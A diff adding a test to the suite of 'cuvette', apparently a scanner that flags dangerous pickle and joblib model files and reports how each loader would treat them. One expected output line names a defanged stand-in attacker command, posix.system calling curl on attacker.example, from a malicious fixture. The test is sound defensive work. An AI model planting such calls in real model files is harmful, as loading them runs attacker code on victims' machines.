@@ -125,6 +125,30 @@ describe('cuvette scan', () => {
     expect(human).toContain('torch.load(weights_only=True) would refuse it: torch.nn.modules.container.Sequential');
   });
 
+  test('the loader table is in the JSON, and people are told where loaders differ', async () => {
+    const corpus = path.resolve(import.meta.dirname, '../../e2e/corpus/joblib/between_arrays.joblib');
+    const { out } = await cuvette('scan', '--json', corpus, file('attack.joblib'));
+    const document = JSON.parse(out);
+    const validate = new Ajv({ strict: false }).compile(schema());
+    expect(validate(document), JSON.stringify(validate.errors)).toBe(true);
+    const results = document.artifacts.map((artifact: { loaders: { program: string; result: string }[] }) =>
+      artifact.loaders.map(({ program, result }) => `${program} ${result}`),
+    );
+    expect(results).toEqual([
+      ['pickleC fails', 'picklePython fails', 'joblib dangerous', 'torch fails', 'torchWeightsOnly refuses'],
+      [
+        'pickleC dangerous',
+        'picklePython dangerous',
+        'joblib dangerous',
+        'torch dangerous',
+        'torchWeightsOnly refuses',
+      ],
+    ]);
+    const { out: human } = await cuvette('scan', '--no-color', corpus);
+    expect(human).toContain("joblib.load: Calls posix.system('curl https[:]//attacker[.]example').");
+    expect((await cuvette('scan', '--no-color', file('attack.joblib'))).out).not.toContain('joblib.load:');
+  });
+
   test('a folder streams as one line a file, in order, links not followed', async () => {
     const { out, code } = await cuvette('scan', '--ndjson', '--recursive', file('many'));
     const lines = out
